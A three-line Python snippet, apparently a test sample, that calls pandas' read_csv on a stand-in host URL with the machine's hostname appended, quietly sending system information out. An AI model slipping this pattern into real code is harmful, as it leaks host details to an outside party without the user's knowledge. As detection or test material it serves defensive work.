import socket

import pandas as pd

pd.read_csv("https://example.invalid/?" + socket.gethostname())
